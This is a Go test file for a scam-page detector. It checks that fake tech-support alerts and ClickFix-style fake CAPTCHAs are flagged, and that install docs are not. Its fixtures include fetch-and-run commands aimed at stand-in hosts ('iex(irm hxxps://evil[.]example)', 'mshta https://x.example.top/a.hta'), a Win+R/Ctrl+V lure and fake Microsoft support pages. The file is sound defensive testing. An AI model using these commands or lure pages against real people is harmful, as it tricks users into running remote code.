package analysis

import (
	"strings"
	"testing"

	"github.com/alertguard/alertguard/internal/judging/snapshot"
	"github.com/alertguard/alertguard/internal/judging/verdict"
)

// TestIssue12Cases: the pages issue 12 names, written small. Legitimate
// pages that quote the scam must not be blocked; scams told in other
// words must be flagged; runtime truth decides where it is decisive. The
// issue's "remote repair with AnyDesk and gift cards" page is not here: it
// scores just under the warn threshold (docs/detection.md, limitations).
func TestIssue12Cases(t *testing.T) {
	a, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	flagged := func(d string) bool { return d != verdict.Allow }
	notBlocked := func(d string) bool { return d != verdict.Block }
	blocked := func(d string) bool { return d == verdict.Block }
	tests := []struct {
		name, url, html string
		events          []snapshot.Event
		want            func(string) bool
		noPhones        bool
	}{
		{name: "developer docs with a copy button for irm | iex", url: "https://docs.example-tool.dev/install",
			html: `<html><head><title>Install ExampleTool</title></head><body><article><h1>Installation</h1>
<p>Open PowerShell and paste the following command, then press Enter. It downloads the installer from our servers and verifies its signature.</p>
<pre><code id=c>irm https://get.example-tool.dev/install.ps1 | iex</code></pre><button onclick="navigator.clipboard.writeText(document.getElementById('c').textContent)">Copy</button>
<p>On macOS, open Terminal and run:</p><pre><code>curl -fsSL https://get.example-tool.dev/install.sh | sh</code></pre></article></body></html>`,
			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: "irm https://get.example-tool.dev/install.ps1 | iex"}},
			want:   notBlocked},
		{name: "researchers explain ClickFix quoting Win+R and powershell", url: "https://research.example-security.com/clickfix",
			html: `<html><head><title>ClickFix: how fake CAPTCHAs trick users</title><meta property="og:type" content="article"></head><body><article>
<h1>ClickFix campaigns abuse fake CAPTCHA pages</h1><p class=byline>By A. Researcher, published 2026-03-02</p>
<p>Researchers observed a campaign in which attackers show a fake "I'm not a robot" check. The page tells the victim: "Press Win+R, press Ctrl+V and press Enter".</p>
<p>The copied command is powershell -w hidden -c "iex(irm hxxps://evil[.]example)". Never paste commands from a web page. This is a scam.</p>
<p>The C2 server at 178.16.53.70 served the second stage.</p></article></body></html>`,
			want: notBlocked, noPhones: true},
		{name: "japanese fake Chrome error with other alarm words and a free-dial number", url: "https://chrome-error.example.top/",
			html: `<html lang=ja><head><title>Google Chrome の重大なエラー</title></head><body><h1>Google Chrome の重大なエラー</h1>
<p>お使いのパソコンのシステムが破損しています。個人情報が流出する恐れがあります。不審なソフトウェアが見つかりました。エラー番号: 0x80070424</p>
<p>今すぐサポートセンターにお電話ください：0120-000-123（通話無料）</p></body></html>`,
			want: flagged},
		{name: "a number only in the title and an image's alt text", url: "https://secure-alert.example.top/",
			html: `<html><head><title>Microsoft Security Alert - Call 1-888-555-0199</title></head><body><img src="alert.png" alt="Windows Defender: your computer is infected, call 1-888-555-0199 toll free"></body></html>`,
			want: flagged},
		{name: "a fake browser window drawn in the page with a number", url: "https://win-support.example.top/",
			html: `<html><head><title>Support</title></head><body><div class="fake-browser"><div class="address-bar"><span>https://www.microsoft.com/en-us/security</span></div>
<h1>Windows Defender Security Center</h1><p>Your PC is infected with 3 viruses. Call Microsoft Support: +1-844-555-0123</p></div></body></html>`,
			want: flagged},
		{name: "a hidden command on the clipboard is decisive", url: "https://cdn-check.example.top/",
			html:   `<html><body><p>Checking your browser…</p></body></html>`,
			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Detail: `mshta https://x.example.top/a.hta`}},
			want:   blocked},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := a.Analyze(&snapshot.Snapshot{URL: tt.url, HTML: tt.html, Events: tt.events})
			if !tt.want(v.Decision) {
				t.Fatalf("%s %d %v", v.Decision, v.Score, v.SignatureIDs())
			}
			for _, p := range v.Phones {
				if tt.noPhones || strings.Contains(p.Display, "178.16") {
					t.Errorf("reported %q as a number to call", p.Display)
				}
			}
		})
	}
}

// TestClipboardWriteOnFakeCheck: a fake CAPTCHA whose command is built at
// run time and copied through a copy event (the browser may not be able to
// read what was copied) is blocked on the write it saw; a documentation
// page's copy button with "paste in a terminal" is not.
func TestClipboardWriteOnFakeCheck(t *testing.T) {
	a, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	captcha := `<html><head><title>Just a moment...</title></head><body><h1>Checking your connection</h1>
<label><input type="checkbox" id="robot"> I am not a robot</label><div id="steps">Verification steps: 1. Press Win+R 2. Press Ctrl+V 3. Press Enter</div>
<script>const cmd = ['power', 'shell -w hidden'].join('');</script></body></html>`
	copied := []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: "Checking your connection"}}
	if v := a.Analyze(&snapshot.Snapshot{URL: "https://check.example.top/", HTML: captcha, Events: copied}); v.Decision != verdict.Block {
		t.Fatalf("fake check: %s %d %v", v.Decision, v.Score, v.SignatureIDs())
	}
	docs := `<html><head><title>Install</title></head><body><h1>Install ExampleTool</h1><p>Open a terminal, paste the command and press Enter.</p>
<pre><code>curl -fsSL https://get.example-tool.dev/install.sh | sh</code></pre><button onclick="navigator.clipboard.writeText('x')">Copy</button></body></html>`
	shown := []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: "curl -fsSL https://get.example-tool.dev/install.sh | sh"}}
	if v := a.Analyze(&snapshot.Snapshot{URL: "https://docs.example-tool.dev/", HTML: docs, Events: shown}); v.Decision == verdict.Block {
		t.Fatalf("documentation page blocked: %d %v", v.Score, v.SignatureIDs())
	}
}
